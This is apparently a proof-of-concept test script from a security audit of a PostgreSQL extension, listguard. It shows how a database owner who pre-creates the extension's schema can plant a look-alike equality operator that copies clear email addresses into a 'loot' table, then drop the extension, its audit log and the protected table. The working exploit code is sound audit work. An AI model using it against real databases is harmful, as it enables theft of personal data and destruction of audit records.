#!/usr/bin/env bash
# FINDING (round 3, the database owner; classes 1 and 5): listguard.control
# says schema = listguard, not relocatable, and CREATE EXTENSION puts the
# extension into an existing schema of that name without looking at its
# owner. A database owner who creates schema "listguard" before an
# administrator runs CREATE EXTENSION owns the schema of every listguard
# object in that database, and then, with no grant and no superuser:
#  1. renames it away: listguard finds its objects by name
#     (pg/base/catalog.cpp), so in a new session every guard is off (the
#     look-alike guard among them); it plants a look-alike operator
#     public.=(listguard.email, text) whose function copies listguard.text()
#     of every value it is given into a table of its own, and renames the
#     schema back. A clear reader's ordinary lookup with a text value (an
#     explicit ::text or a text/varchar parameter, as JDBC's setString sends)
#     runs the owner's function on every row it scans: every clear address
#     of its scope lands in the owner's table (charged to the reader, the
#     owner's read of its own table recorded nowhere);
#  2. DROP SCHEMA listguard CASCADE (no rename needed): the extension goes
#     with it (grants, canaries, policies, the whole audit_log and its
#     heads), then DROP TABLE on the formerly protected table (it owns
#     public).
# Expected secure outcome: CREATE EXTENSION refuses a listguard schema it
# did not create (or takes it over), and nothing in 1-2 works.
# RESULT: FINDING (H): both work (1. with text and varchar parameters, not
# with an untyped literal).
# Needs PGHOST, PGPORT (superuser postgres) and the roles of setup.sql.
set -u
P="psql -X -q"
$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_pre" -c "CREATE DATABASE atk_pre OWNER a_dbo"
echo "== the database owner prepares its database"
$P -U a_dbo -d atk_pre -c "CREATE SCHEMA listguard"
echo "== later, an administrator installs and uses listguard there"
$P -U postgres -d atk_pre <<'SQL'
CREATE EXTENSION listguard;
CREATE TABLE public.subs (id bigserial PRIMARY KEY, account_id bigint NOT NULL, list_id bigint NOT NULL, email listguard.email NOT NULL);
INSERT INTO public.subs (account_id, list_id, email) SELECT 1, 11, format('pre%s@example.com', g) FROM generate_series(1, 20) g;
SELECT listguard.protect('public.subs', 'account_id', 'list_id');
GRANT SELECT ON public.subs TO a_clear, a_masked;
SELECT listguard.grant_access('a_clear', 1, 11, reveal => 'clear', quota => '100/day') IS NOT NULL AS granted;
SELECT nspname, nspowner::regrole FROM pg_namespace WHERE nspname = 'listguard';
SQL
echo "== 1. the owner plants a look-alike operator (three sessions)"
$P -U a_dbo -d atk_pre -c "ALTER SCHEMA listguard RENAME TO lg_off"
$P -U a_dbo -d atk_pre <<'SQL'
CREATE TABLE public.loot (e text, who name DEFAULT current_user, at timestamptz DEFAULT now());
GRANT INSERT ON public.loot TO PUBLIC;
CREATE FUNCTION public.steal(lg_off.email, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.loot (e) VALUES (listguard.text($1)); RETURN listguard.text($1) = $2; END $$;
CREATE OPERATOR public.= (LEFTARG = lg_off.email, RIGHTARG = text, FUNCTION = public.steal);
SQL
$P -U a_dbo -d atk_pre -c "ALTER SCHEMA lg_off RENAME TO listguard"
echo "== a clear reader looks one address up by a text parameter"
$P -U a_clear -d atk_pre -c "PREPARE q(text) AS SELECT id FROM public.subs WHERE email = \$1" -c "EXECUTE q('pre5@example.com')"
$P -U a_dbo -d atk_pre -At -c "SELECT 'after a text parameter: ' || count(*) FROM public.loot"
$P -U a_clear -d atk_pre -c "PREPARE q(varchar) AS SELECT id FROM public.subs WHERE email = \$1" -c "EXECUTE q('pre6@example.com')" >/dev/null
$P -U a_dbo -d atk_pre -At -c "SELECT 'after a varchar parameter: ' || count(*) FROM public.loot"
$P -U a_clear -d atk_pre -c "SELECT id FROM public.subs WHERE email = 'pre7@example.com'" >/dev/null
$P -U a_dbo -d atk_pre -At -c "SELECT 'after an untyped literal: ' || count(*) FROM public.loot"
echo "== what the database owner (no grant) now holds"
$P -U a_dbo -d atk_pre -c "SELECT who, count(*), min(e), max(e) FROM public.loot GROUP BY who"
echo "== 2. the owner removes listguard and the protected table"
psql -X -U a_dbo -d atk_pre -c "DROP SCHEMA listguard CASCADE" 2>&1 | grep -vE "^(DETAIL|drop cascades)"
psql -X -U a_dbo -d atk_pre -c "DROP TABLE public.subs"
$P -U postgres -d atk_pre -At -c "SELECT 'extensions: ' || string_agg(extname, ',') FROM pg_extension" -c "SELECT 'subs: ' || coalesce(to_regclass('public.subs')::text, 'gone')"
